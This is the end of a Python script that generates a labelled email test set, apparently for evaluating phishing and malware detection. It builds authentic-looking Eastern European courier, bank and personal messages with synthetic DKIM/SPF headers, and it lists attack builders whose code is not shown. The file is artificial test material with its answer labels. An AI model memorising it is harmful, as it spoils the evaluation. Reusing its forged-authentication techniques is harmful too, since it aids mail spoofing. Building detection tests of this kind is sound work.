    add(stem, "bulk", "Genuine Digi monthly bill (PDF attached) with amount due and a payment link on digi.ro: a real "
        "payment request from a telecom.", head("outlook", a, rcpt, sent, stem, [dkim_sig(dom, "digi", stem, sent=sent)], top), body)


# ================================================================ legitimate: Bulgaria, Ukraine, Russia, Baltics, Croatia


def legit_bg_econt() -> None:
    stem = "b48-legit-bg-econt-pratka"
    sent = T("2025-10-15 12:08:33 +0300")
    rcpt = "ivanova.maria@abv.bg"
    dom = "econt.com"
    a = Auth(ip=f"212.36.{num(stem, 1, 30)}.{num(stem + 'b', 10, 200)}", helo=f"mail{num(stem, 1, 5)}.econt.com",
             rdns=f"mail{num(stem, 1, 5)}.econt.com", mailfrom=f"noreply@{dom}", hfrom=dom, spf="pass",
             dkim=((dom, "ec2023", "pass"),), dmarc="pass", policy="quarantine")
    num_ = "1052218764301"
    html = esp_html("bg", "Еконт", "Еконт", "#234ca5", [
        "Здравейте, Мария Иванова,",
        f"Пратка <b>{num_}</b> от <b>Ozone.bg</b> пристигна в офис <b>София – Лозенец</b> (ул. Златовръх 1) и "
        "може да бъде получена до 22.10.2025.",
        "Наложен платеж: <b>0,00 лв.</b> Доставката е платена от подателя.",
        f'Проследяване: <a href="https://www.econt.com/services/track-shipment/{num_}">econt.com/services/track-shipment</a>',
    ], footer=["„Еконт Експрес“ ООД | 0700 17 300",
               "Еконт не изисква допълнителни плащания чрез линкове в SMS или имейл."])
    plain = strip_html(html)
    top = [f"From: {addr('Еконт', a.mailfrom)}", f"To: {rcpt}",
           f"Subject: {ew(f'Пратка {num_} пристигна в офис София – Лозенец')}", f"Date: {rfc(sent)}",
           f"Message-ID: <{hx(stem + 'm', 32)}@econt.com>", "MIME-Version: 1.0"]
    body = alt(f"_=_swift_{num(stem + 'sw', 1700000000, 1799999999)}_{hx(stem + 'swb', 32)}_=_", qp(plain), qp(html, "html"))
    add(stem, "bulk", "Genuine Econt 'parcel arrived at office' notification in Bulgarian with a tracking link on econt.com "
        "and no fee.", head("abv", a, rcpt, sent, stem, [dkim_sig(dom, "ec2023", stem, sent=sent)], top), body)


def legit_ua_novaposhta() -> None:
    stem = "b48-legit-ua-novaposhta"
    sent = T("2025-03-13 09:41:07 +0200")
    rcpt = "oksana.kovalenko@ukr.net"
    dom = "novaposhta.ua"
    a = Auth(ip=f"91.238.{num(stem, 100, 103)}.{num(stem + 'b', 10, 200)}", helo=f"smtp{num(stem, 1, 8)}.novaposhta.ua",
             rdns=f"smtp{num(stem, 1, 8)}.novaposhta.ua", mailfrom=f"bounce@mail.{dom}", hfrom=dom, spf="pass",
             dkim=((dom, "np", "pass"),), dmarc="pass", policy="reject")
    ttn = "20451087335912"
    html = esp_html("uk", "Нова пошта", "Нова пошта", "#da291c", [
        "Вітаємо, Оксано!",
        f"Ваше відправлення <b>{ttn}</b> від <b>Rozetka</b> прибуло до відділення <b>№ 52</b> (Київ, вул. Велика "
        "Васильківська, 100).",
        "Отримати посилку можна до 20.03.2025. Сума до сплати при отриманні: <b>0 грн</b>.",
        f'Деталі – у застосунку Нова Пошта або на <a href="https://novaposhta.ua/tracking/?cargo_number={ttn}">novaposhta.ua</a>.',
    ], footer=["ТОВ «Нова Пошта» | 0 800 500 609",
               "Нова пошта ніколи не просить оплатити доставку за посиланням з листа чи SMS."])
    plain = strip_html(html)
    top = [f"From: {addr('Нова пошта', 'info@' + dom)}", f"To: {rcpt}",
           f"Subject: {ew(f'Відправлення {ttn} прибуло у відділення № 52')}", f"Date: {rfc(sent)}",
           f"Message-ID: <{uid(stem + 'm')}@mail.novaposhta.ua>", "MIME-Version: 1.0",
           f"List-Unsubscribe: <https://novaposhta.ua/unsubscribe?t={hx(stem + 'u', 32)}>"]
    body = alt(f"----=_Part_{num(stem + 'a', 1000000, 9999999)}_{num(stem + 'a2', 1000000, 9999999)}", qp(plain), qp(html, "html"))
    add(stem, "bulk", "Genuine Nova Poshta 'parcel arrived at branch' notice in Ukrainian with a tracking link on "
        "novaposhta.ua and nothing to pay.", head("ukrnet", a, rcpt, sent, stem, [dkim_sig(dom, "np", stem, sent=sent)], top), body)


def legit_ua_personal() -> None:
    stem = "b48-legit-ua-personal"
    sent = T("2025-01-19 21:17:52 +0200")
    rcpt = "andriy.melnyk.lviv@gmail.com"
    dom = "ukr.net"
    a = Auth(ip=f"212.42.{num(stem, 64, 90)}.{num(stem + 'b', 10, 200)}", helo=f"frv{num(stem, 100, 199)}.fwdcdn.com",
             rdns=f"frv{num(stem, 100, 199)}.fwdcdn.com", mailfrom=f"halyna.melnyk@{dom}", hfrom=dom, spf="pass",
             dkim=((dom, "ffe", "pass"), ("fwdcdn.com", "ukrnet", "pass")), dmarc="pass", policy="none")
    plain = ("Андрійку, привіт!\n\nДякую за посилку, все дійшло ціле, банки з варенням теж :)\n"
             "Тато питає, чи ти вже домовився з майстром щодо котла, бо в нас знову вимкнули світло на 4 години "
             "і він хвилюється. Якщо треба, ми можемо скинути гроші на твою картку, тільки напиши скільки.\n\n"
             "Пересилаю тобі фото документів на квартиру, які ти просив, — дивись у вкладенні.\n\n"
             "Цілую, мама\n")
    html = ("<div>" + "</div><div>".join(p if p else "<br>" for p in plain.split("\n")[:-1]) + "</div>\n")
    top = [f"Date: {rfc(sent)}", f"From: {addr('Галина Мельник', a.mailfrom)}", f"Subject: {ew('Re: посилка і котел')}",
           f"To: {addr('Андрій Мельник', rcpt)}", "X-Mailer: mail.ukr.net 5.0",
           f"Message-Id: <{num(stem + 'm', 1700000000, 1799999999)}.{num(stem + 'm2', 100000000, 999999999)}.{num(stem + 'm3', 1000, 9999)}@frv{num(stem, 100, 199)}.fwdcdn.com>",
           f"In-Reply-To: {msgid_gmail(stem + 'prev')}", "MIME-Version: 1.0"]
    body = Multi("mixed", f"=_{hx(stem + 'b', 24)}",
                 [alt(f"=_{hx(stem + 'b2', 24)}", b64t(plain), b64t(html, "html")),
                  att("image/jpeg", "Документи_квартира.jpg", F.photo_jpeg(7), "2231")])
    hops = [dkim_sig(dom, "ffe", stem, sent=sent), dkim_sig("fwdcdn.com", "ukrnet", stem + "f", sent=sent)]
    add(stem, "clean", "Genuine Ukrainian personal reply from a mother's ukr.net webmail (aligned DKIM) with a photo of "
        "documents attached and an offer to send money to her son's card.",
        head("gmail", a, rcpt, sent, stem, hops, top), body)


def legit_ru_personal() -> None:
    stem = "b48-legit-ru-personal-koi8"
    sent = T("2024-12-03 18:55:20 +0300")
    rcpt = "sergey.volkov@yandex.ru"
    dom = "rambler.ru"
    cs = "koi8-r"
    a = Auth(ip=f"81.19.{num(stem, 78, 79)}.{num(stem + 'b', 10, 200)}", helo=f"mail{num(stem, 1, 9)}.rambler.ru",
             rdns=f"mail{num(stem, 1, 9)}.rambler.ru", mailfrom=f"a.kuznetsov1975@{dom}", hfrom=dom, spf="pass",
             dkim=((dom, "mail", "pass"),), dmarc="pass", policy="none")
    plain = ("Серёга, привет!\n\nНапоминаю: встреча выпускников 14 декабря в 18:00, кафе \"Старый город\" на "
             "Покровке, как в прошлом году. Скидываемся по 3000 руб., деньги собирает Лена Морозова - "
             "переводи ей по номеру телефона через СБП, номер у тебя есть.\n\nЕсли будешь с женой, напиши, чтобы "
             "Лена заказала столик побольше. Список тех, кто уже подтвердил, во вложении.\n\n--\nС уважением,\n"
             "Андрей Кузнецов\n")
    names = ("Список подтвердивших (на 03.12):\n1. Кузнецов Андрей\n2. Морозова Елена\n3. Лебедев Игорь\n"
             "4. Соколова Наталья\n5. Попов Дмитрий\n")
    top = [f"Message-ID: <{uid(stem + 'tb')}@rambler.ru>", f"Date: {rfc(sent)}", "MIME-Version: 1.0",
           "User-Agent: Mozilla Thunderbird", "Content-Language: ru", f"To: {addr('Сергей Волков', rcpt, cs, 'B')}",
           f"From: {addr('Андрей Кузнецов', a.mailfrom, cs, 'B')}", f"Subject: {ew('Встреча выпускников 14 декабря', cs, 'B')}"]
    body = Multi("mixed", "------------" + an(stem + "tbb", 24),
                 [Leaf("text/plain", plain.encode(cs), "8bit", f'; charset={cs}; format=flowed'),
                  Leaf("text/plain", names.encode(cs), "base64", f'; charset={cs}; name="spisok.txt"',
                       'attachment; filename="spisok.txt"')])
    add(stem, "clean", "Genuine Russian personal mail in KOI8-R from Thunderbird on rambler.ru about a class reunion, "
        "with a collection via SBP mentioned and a text list attached.",
        head("yandex", a, rcpt, sent, stem, [dkim_sig(dom, "mail", stem, sent=sent)], top), body)


def legit_lt_swedbank() -> None:
    stem = "b48-legit-lt-swedbank-naujienos"
    sent = T("2025-01-16 10:00:12 +0200")
    rcpt = "tomas.kazlauskas@gmail.com"
    dom = "swedbank.lt"
    sub = "info.swedbank.lt"
    a = Auth(ip=f"185.250.{num(stem, 236, 239)}.{num(stem + 'b', 10, 200)}", helo=f"mta{num(stem, 1, 9)}.{sub}",
             rdns=f"mta{num(stem, 1, 9)}.{sub}", mailfrom=f"bounce-{hx(stem + 'b', 16)}@{sub}", hfrom=dom, spf="pass",
             dkim=((dom, "sw1", "pass"),), dmarc="pass", policy="reject")
    trk = lambda k: f"https://{sub}/c/{hx(stem + k, 40)}"  # noqa: E731
    html = esp_html("lt", "Swedbank naujienos", "Swedbank", "#ff5f00", [
        "Sveiki, Tomai,",
        "Sausio naujienos: nuo vasario 1 d. momentiniai mokėjimai eurais Lietuvoje ir ES išlieka nemokami, o "
        "„Swedbank“ programėlėje atsirado galimybė susikurti taupymo tikslą ir automatinius pervedimus.",
        f'<a href="{trk("a")}">Sužinokite daugiau</a>',
        "Primename: mes niekada neprašome el. paštu ar telefonu pateikti Smart-ID PIN kodų ar prisijungimo duomenų. "
        "Smart-ID sertifikatą atnaujinti galite tik pačioje Smart-ID programėlėje.",
    ], footer=["„Swedbank“, AB, Konstitucijos pr. 20A, LT-03502 Vilnius. Tel. 1884",
               f'Nebenorite gauti naujienų? <a href="{trk("u")}">Atsisakyti prenumeratos</a>'])
    plain = strip_html(html)
    top = [f"From: {addr('Swedbank', 'naujienos@' + dom)}", f"To: {rcpt}",
           f"Subject: {ew('Sausio naujienos: taupymo tikslai programėlėje')}", f"Date: {rfc(sent)}",
           f"Message-ID: <{hx(stem + 'm', 24)}@{sub}>", "MIME-Version: 1.0",
           f"List-Unsubscribe: <{trk('lu')}>", "List-Unsubscribe-Post: List-Unsubscribe=One-Click"]
    body = alt(f"----=_Part_{num(stem + 'a', 1000000, 9999999)}_{num(stem + 'a2', 1000000, 9999999)}", qp(plain), qp(html, "html"))
    add(stem, "bulk", "Genuine Swedbank Lithuania monthly newsletter with tracked links and one-click unsubscribe, "
        "reminding that Smart-ID is only renewed in the app.",
        head("gmail", a, rcpt, sent, stem, [dkim_sig(dom, "sw1", stem, sent=sent)], top), body)


def legit_hr_offer() -> None:
    stem = "b48-legit-hr-ponuda-pdf"
    sent = T("2025-11-19 14:48:06 +0100")
    rcpt = "racunovodstvo@adria-logistika.hr"
    dom = "viljevac-transport.hr"
    a = Auth(ip=f"40.107.{num(stem, 1, 250)}.{num(stem + 'b', 1, 250)}", helo=f"EUR0{num(stem, 1, 5)}-HE1-obe.outbound.protection.outlook.com",
             rdns=f"mail-he1eur0{num(stem, 1, 5)}on20{num(stem + 'o', 600, 730)}.outbound.protection.outlook.com",
             mailfrom=f"ivan.kovacevic@{dom}", hfrom=dom, spf="pass",
             dkim=((dom, "selector1", "pass"),), dmarc="pass", policy="quarantine")
    pdf = F.pdf(["VILJEVAC TRANSPORT d.o.o., Osijek, OIB 48201937745", "PONUDA br. 118/2025",
                 "Kupac: ADRIA LOGISTIKA d.o.o.", "Prijevoz Rijeka - Budimpesta, FTL, 12/2025 - 4 ture",
                 "Cijena po turi: 1.180,00 EUR + PDV", "Valjanost ponude: 30 dana", "Placanje: 30 dana od fakture"],
                title="Ponuda 118/2025")
    paras = ["Poštovana gospođo Horvat,", "",
             "u privitku Vam šaljem ponudu br. 118/2025 za prijevoz na relaciji Rijeka – Budimpešta za prosinac, "
             "kako smo dogovorili telefonom s g. Perićem.",
             "Plaćanje je kao i dosad na naš račun u PBZ-u, 30 dana od datuma računa.", "",
             "Za sva pitanja stojim na raspolaganju.", "", "Srdačan pozdrav,"]
    sig = ["Ivan Kovačević", "Voditelj prodaje", "VILJEVAC TRANSPORT d.o.o. | Vukovarska 212, 31000 Osijek | +385 31 555 218"]
    html = outlook_html(paras, sig, lang="HR")
    plain = "\n".join(paras) + "\n" + "\n".join(sig) + "\n"
    top = [f"From: {addr('Ivan Kovačević', a.mailfrom)}", f"To: {addr('Ana Horvat', rcpt)}",
           f"CC: {addr('Marko Perić', 'marko.peric@adria-logistika.hr')}",
           f"Subject: {ew('Ponuda 118/2025 – prijevoz Rijeka–Budimpešta')}", f"Thread-Topic: {ew('Ponuda 118/2025 – prijevoz Rijeka–Budimpešta')}",
           f"Thread-Index: AdtZ{b64s(stem + 'ti', 24)}==", f"Date: {rfc(sent)}", f"Message-ID: {msgid_outlook(stem)}",
           "Accept-Language: hr-HR, en-US", "Content-Language: hr-HR", "X-MS-Has-Attach: yes", "MIME-Version: 1.0"]
    body = Multi("mixed", outlook_boundary(stem, 4), [alt(outlook_boundary(stem, 0), qp(plain), qp(html, "html")),
                                                      attachment("application/pdf", "Ponuda_118_2025.pdf", pdf)])
    hops = [dkim_sig(dom, "selector1", stem, sent=sent)]
    add(stem, "clean", "Genuine Croatian business email from a carrier's Microsoft 365 (aligned DKIM) with a PDF price "
        "offer, copying the director.", head("postfix:mail.adria-logistika.hr:1", a, rcpt, sent, stem, hops, top), body)


def legit_ee_omniva() -> None:
    stem = "b48-legit-ee-omniva"
    sent = T("2025-12-03 09:12:55 +0200")
    rcpt = "kadri.tamm@gmail.com"
    dom = "omniva.ee"
    a = Auth(ip=f"195.80.{num(stem, 100, 127)}.{num(stem + 'b', 10, 200)}", helo=f"smtp{num(stem, 1, 4)}.omniva.ee",
             rdns=f"smtp{num(stem, 1, 4)}.omniva.ee", mailfrom=f"noreply@{dom}", hfrom=dom, spf="pass",
             dkim=((dom, "omniva", "pass"),), dmarc="pass", policy="reject")
    html = esp_html("et", "Omniva", "Omniva", "#ff6600", [
        "Tere!",
        "Teie pakk <b>CE512847309EE</b> saatjalt <b>Hansapost</b> on jõudnud pakiautomaati "
        "<b>Tartu Lõunakeskuse pakiautomaat</b>.",
        "Uksekood: <b>6612 0347</b><br>Pakk ootab teid kuni 10.12.2025.",
        'Paki liikumist saate jälgida <a href="https://www.omniva.ee/era/jalgimine?barcode=CE512847309EE">omniva.ee</a> '
        "lehel või Omniva äpis.",
    ], footer=["AS Eesti Post, Mustamäe tee 3, 15094 Tallinn | Klienditugi 661 6616",
               "Omniva ei küsi kunagi e-kirja ega SMS-i teel lisatasu maksmist lingi kaudu."])
    plain = strip_html(html)
    top = [f"From: {addr('Omniva', a.mailfrom)}", f"To: {rcpt}",
           f"Subject: {ew('Teie pakk on pakiautomaadis')}", f"Date: {rfc(sent)}",
           f"Message-ID: <{hx(stem + 'm', 32)}@omniva.ee>", "MIME-Version: 1.0"]
    body = alt(f"----=_Part_{num(stem + 'a', 1000000, 9999999)}_{num(stem + 'a2', 1000000, 9999999)}", qp(plain), qp(html, "html"))
    add(stem, "bulk", "Genuine Omniva 'parcel in the parcel machine' notice in Estonian with door code and tracking link "
        "on omniva.ee.", head("gmail", a, rcpt, sent, stem, [dkim_sig(dom, "omniva", stem, sent=sent)], top), body)


# ================================================================ main

BUILDERS = [
    pl_pkobp_lookalike, pl_mbank_3ds, pl_inpost, pl_poczta_html, pl_olx_buyer, pl_mobywatel_qr, pl_eurzad, pl_ceo,
    pl_faktura_lnk, pl_reply_chain, pl_sextortion,
    cz_george, cz_zasilkovna, cz_edalnice, cz_sharepoint, cz_zmena_uctu, cz_investice, sk_csob, sk_eznamka, sk_docm,
    hu_otp, hu_nav, hu_jofogas, hu_telekom, hu_iso, ro_bcr, ro_bt_callback, ro_fancourier, ro_anaf, ro_factura_js,
    bg_dsk, bg_econt, bg_speedy_smuggling, rs_raiffeisen, rs_eporezi, hr_erste, hr_ceo, si_dpd, lt_swedbank, lv_vid,
    ee_omniva, ua_privat, ua_novaposhta, ua_povistka, ua_olx, kz_kaspi, ru_gosuslugi, ru_avito, ru_schet, ru_kompensatsiya,
    legit_pkobp, legit_mbank, legit_inpost, legit_allegro, legit_olx, legit_pl_internal, legit_pl_reply, legit_pl_list,
    legit_cz_george, legit_cz_fakturoid, legit_cz_zasilkovna, legit_cz_sharepoint, legit_sk_photos, legit_hu_otp,
    legit_hu_nav, legit_ro_bt, legit_ro_fancourier, legit_ro_digi, legit_bg_econt, legit_ua_novaposhta,
    legit_ua_personal, legit_ru_personal, legit_lt_swedbank, legit_hr_offer, legit_ee_omniva,
]


def main() -> None:
    SAMPLES.clear()
    for build in BUILDERS:
        build()
    stems = [s[0] for s in SAMPLES]
    assert len(stems) == len(set(stems)), "duplicate stems"
    attacks = [s for s in SAMPLES if "-phish-" in s[0]]
    legit = [s for s in SAMPLES if "-legit-" in s[0]]
    assert len(attacks) == 50 and len(legit) == 25, (len(attacks), len(legit))
    for stem, folder, _desc, data in SAMPLES:
        assert folder in ("phishing", "malware", "clean", "bulk")
        assert (folder in ("phishing", "malware")) == ("-phish-" in stem), stem
        check(stem, data)
    for old in MAIL.glob("*/b48-*.eml"):
        old.unlink()
    lines = []
    counts: dict[str, int] = {}
    for stem, folder, desc, data in SAMPLES:
        folder = REFILED.get(stem, folder)
        target = MAIL / folder / f"{stem}.eml"
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
        lines.append(f"samples/mail/{folder}/{stem}.eml | {folder} | {desc}")
        counts[folder] = counts.get(folder, 0) + 1
    MANIFEST.write_text("\n".join(lines) + "\n", encoding="utf-8")
    print("blind48: " + ", ".join(f"{k} {v}" for k, v in sorted(counts.items())) + f", total {len(SAMPLES)}")


if __name__ == "__main__":
    main()
